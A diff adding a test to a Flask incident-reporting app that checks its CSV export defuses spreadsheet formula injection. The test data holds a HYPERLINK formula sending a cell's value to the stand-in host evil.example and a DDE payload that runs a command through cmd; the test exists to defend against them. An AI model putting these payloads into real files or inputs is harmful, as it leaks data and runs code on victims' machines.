@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 import sqlalchemy as sa
@@ -233,3 +235,25 @@ def test_officers_are_reminded_once_before_each_deadline_not_met(
     assert remind(datetime(2026, 10, 26, 22, 0, tzinfo=UTC)) == 0
     assert reread(app, Incident, _only_incident(app).id).cnil_reminded_at is None
     assert len(audit_rows(app, AuditAction.INCIDENT_REMINDER_SENT)) == 1
+
+
+def test_the_incident_export_never_holds_a_live_formula(
+    client: FlaskClient, world: OfficerWorld, login_as
+) -> None:
+    login_as(world.officer62)
+    url = _declare(client, title='=HYPERLINK("https://evil.example/?x="&A1;"clic")')
+    response = client.post(
+        url + "/notification",
+        data={
+            "csrf_token": csrf_of(client, url),
+            "kind": "partenaires",
+            "sent_at": "2026-10-25T18:30",
+            "recipients": "@SUM(1+1)*cmd|' /C calc'!A0",
+        },
+    )
+    assert response.status_code == 302, response.get_data(as_text=True)[:1500]
+    text = client.get(url + "/export.csv").get_data(as_text=True)
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert any(cell.startswith("'@SUM") for cell in cells)
+    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
